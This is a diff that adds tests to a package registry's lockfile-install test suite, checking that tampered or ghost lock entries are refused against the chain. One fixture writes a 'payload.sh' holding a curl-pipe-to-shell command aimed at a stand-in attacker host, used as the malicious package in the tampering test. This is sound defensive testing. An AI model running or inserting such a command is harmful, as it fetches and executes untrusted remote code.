@@ -60,6 +60,7 @@ def test_install_lock_offline(pair, tmp_path):  # noqa: F811
         "checksum": resolved["checksum"],
         "size": resolved["size"],
         "block": resolved["publishedAt"],
+        "publisher": resolved["publisher"],
     }
 
     # A newer matching version does not move a locked install; --locked agrees.
@@ -71,6 +72,32 @@ def test_install_lock_offline(pair, tmp_path):  # noqa: F811
     refused = run("install", "inst/tool@~1.2", "--locked", code=7)
     assert "would change" in refused["error"]
     assert json.loads((project / "modreg.lock").read_text()) == lock
+
+    # A lockfile edited to name other content (as a pull request could) is refused, online,
+    # before anything is fetched: every field of a lock entry is checked against the chain.
+    evil_src = tmp_path / "evil"
+    evil_src.mkdir()
+    (evil_src / "payload.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    evil = run("publish", str(evil_src), "--name", "inst/evil", "--version", "1.0.0")
+    evil = run("resolve", "inst/evil@=1.0.0")
+    good_lock = (project / "modreg.lock").read_text()
+    before_tree = tree(installed)
+    swapped = dict(entry, cid=evil["cid"], checksum=evil["checksum"], size=evil["size"])
+    (project / "modreg.lock").write_text(json.dumps({"lockfileVersion": 1, "packages": [swapped]}))
+    refused = run("install", "--locked", code=5)
+    assert "disagrees with the chain" in refused["error"] and "cid" in refused["error"], refused
+    assert tree(installed) == before_tree
+    # A version the chain does not have (a reset chain, another --node) is refused too.
+    ghost = dict(entry, version="9.9.9")
+    (project / "modreg.lock").write_text(json.dumps({"lockfileVersion": 1, "packages": [ghost]}))
+    assert "no such version" in run("install", code=5)["error"]
+    # An entry from before locks named the publisher is checked on the rest, and gets it.
+    (project / "modreg.lock").write_text(
+        json.dumps({"lockfileVersion": 1, "packages": [{k: v for k, v in entry.items() if k != "publisher"}]})
+    )
+    assert run("install", "--locked")["lockfileChanged"] is False
+    assert run("install")["lockfileChanged"] is True
+    assert (project / "modreg.lock").read_text() == good_lock
 
     # Yanked and deprecated versions that are locked still install, with warnings.
     run("yank", "inst/tool", "1.1.0")
@@ -98,6 +125,15 @@ def test_install_lock_offline(pair, tmp_path):  # noqa: F811
         assert [d["version"] for d in done] == ["1.2.0"]
         assert tree(py_project / "modreg_modules" / "inst" / "tool") == tree(installed)
         assert (py_project / "modreg.lock").read_text() == (project / "modreg.lock").read_text()
+        # Python checks the lockfile against the chain the same way.
+        good = (py_project / "modreg.lock").read_text()
+        py_entry = json.loads(good)["packages"][0]
+        (py_project / "modreg.lock").write_text(
+            json.dumps({"lockfileVersion": 1, "packages": [dict(py_entry, cid=evil["cid"], checksum=evil["checksum"])]})
+        )
+        with pytest.raises(py_install.VerificationError, match="disagrees with the chain"):
+            py_install.install(reg, ipfs.url, project=py_project, locked=True)
+        (py_project / "modreg.lock").write_text(good)
         # A range the locked version satisfies keeps it; one it does not, with locked=True, refuses.
         assert py_install.install(reg, ipfs.url, ["inst/tool@^1.2"], project=py_project)[0]["version"] == "1.2.0"
         with pytest.raises(py_install.LockChanged):
